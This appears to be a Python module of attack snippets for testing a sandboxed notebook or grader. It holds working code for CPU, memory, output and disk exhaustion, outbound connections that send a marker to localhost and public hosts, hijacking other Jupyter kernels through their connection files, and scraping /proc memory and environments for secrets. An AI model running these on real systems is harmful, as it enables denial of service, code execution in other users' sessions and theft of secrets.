"""Attacks on time, memory, output, disk and the network, and on what other processes of the
machine hold (connection files, environments, memory)."""

from __future__ import annotations

from attacks.code import fill

SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"

SLEEP_BODY = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(28)\n"

EXIT_BODY = "import os\nos._exit(1)\n"

STOP_SELF_BODY = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"

ALLOCATE_BODY = "import numpy as np\nblock = np.ones(50 * 1024**3 // 8)\nreturn block\n"

PRINT_FLOOD = """\
import sys, time
_chunk = "x" * (1024 * 1024 - 1) + "\\n"
_start = time.monotonic()
_sent = 0
while _sent < 300 and time.monotonic() - _start < 4:
    sys.stdout.write(_chunk)
    _sent += 1
sys.stdout.flush()
print("sent", _sent, "MB")
"""

PRINT_FLOOD_BODY = (
    'import sys\nfor _ in range(4):\n    sys.stdout.write("y" * 1024 * 1024)\nreturn None\n'
)

RAW_FD_FLOOD = """\
import os
_line = (__MARKER__ + "\\n").encode() * 4096
for _fd in (1, 2):
    try:
        for _ in range(64):
            os.write(_fd, _line)
    except OSError as exc:
        print("fd", _fd, exc)
for _path in ["/dev/tty", "/dev/console", "/proc/self/fd/1", f"/proc/{os.getppid()}/fd/1",
              f"/proc/{os.getppid()}/fd/2", "/proc/1/fd/1"]:
    try:
        with open(_path, "wb", buffering=0) as fh:
            fh.write(_line)
        print("wrote", _path)
    except OSError as exc:
        print("cannot write", _path, type(exc).__name__)
"""


def raw_fd_flood(marker: str) -> str:
    return fill(RAW_FD_FLOOD, marker=marker)


BIG_FILE = """\
import os, time
_chunk = b"\\0" * (64 * 1024 * 1024)
for _path in ["big.bin", "/tmp/big.bin", os.path.expanduser("~/big.bin")]:
    _written = 0
    _start = time.monotonic()
    try:
        with open(_path, "wb") as fh:
            while _written < 10 * 1024**3 and time.monotonic() - _start < 1.5:
                fh.write(_chunk)
                _written += len(_chunk)
        print(_path, "wrote", _written // 1024**2, "MB")
    except OSError as exc:
        print(_path, "stopped after", _written // 1024**2, "MB:", exc.strerror)
    try:
        os.remove(_path)
    except OSError:
        pass
"""

NETWORK = """\
import socket
for _host, _port in [("127.0.0.1", __PORT__), ("localhost", __PORT__), ("::1", __PORT__),
                     ("10.0.2.2", 80), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        with socket.create_connection((_host, _port), timeout=1) as s:
            s.sendall(__MARKER__.encode())
        print("CONNECTED", _host, _port)
    except OSError as exc:
        print("no connection", _host, _port, type(exc).__name__)
"""


def network(port: int, marker: str) -> str:
    return fill(NETWORK, port=port, marker=marker)


CONNECTION_FILES = """\
import glob, json, os
_patterns = ["/tmp/**/kernel*.json", "/tmp/rnn-grader-*/channel/*", "/tmp/**/*.json",
             os.path.expanduser("~/.local/share/jupyter/runtime/*.json"),
             "/root/.local/share/jupyter/runtime/*.json", "/run/user/*/jupyter/*.json",
             "/run/user/*/jupyter/runtime/*.json"] + __EXTRA__
_found = {}
for _pattern in _patterns:
    for _path in glob.glob(_pattern, recursive=True):
        try:
            with open(_path) as fh:
                _found[_path] = json.load(fh)
        except Exception:
            pass
_mine = os.environ.get("JPY_PARENT_PID")
print("connection files:", {p: v.get("key") for p, v in _found.items() if isinstance(v, dict)})
try:
    from jupyter_client import BlockingKernelClient
    for _path, _info in _found.items():
        if not isinstance(_info, dict) or "shell_port" not in _info:
            continue
        _client = BlockingKernelClient(connection_file=_path)
        _client.load_connection_file()
        _client.start_channels()
        try:
            _client.execute_interactive(
                "open(" + repr(__TOUCH__) + ", 'w').write('ran code in another kernel')",
                timeout=3,
            )
            print("RAN CODE IN", _path)
        except Exception as exc:
            print("could not use", _path, type(exc).__name__)
        finally:
            _client.stop_channels()
except ImportError:
    pass
"""


def connection_files(extra: list[str], touch: str) -> str:
    return fill(CONNECTION_FILES, extra=extra, touch=touch)


PROC_SNOOP = """\
import os, re
_secret_re = re.compile(rb"rnn-hostile-secret-[0-9a-f]+")
_seen = {}
for _pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    for _name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_name}", "rb") as fh:
                _seen.update({m.decode(): f"{_pid}/{_name}" for m in _secret_re.findall(fh.read())})
        except OSError:
            pass
    try:
        with open(f"/proc/{_pid}/maps") as maps, open(f"/proc/{_pid}/mem", "rb", 0) as mem:
            for _line in maps.read().splitlines()[:200]:
                _span, _perms = _line.split()[:2]
                if "r" not in _perms:
                    continue
                _lo, _hi = (int(x, 16) for x in _span.split("-"))
                if _hi - _lo > 64 * 1024**2:
                    continue
                try:
                    mem.seek(_lo)
                    for m in _secret_re.findall(mem.read(_hi - _lo)):
                        _seen[m.decode()] = f"{_pid}/mem"
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            _target = os.readlink(f"/proc/{_pid}/fd/{_fd}")
            if "cases" in _target or _target.endswith(".ipynb"):
                _seen[_target] = f"{_pid}/fd/{_fd}"
    except OSError:
        pass
print("found:", _seen)
"""
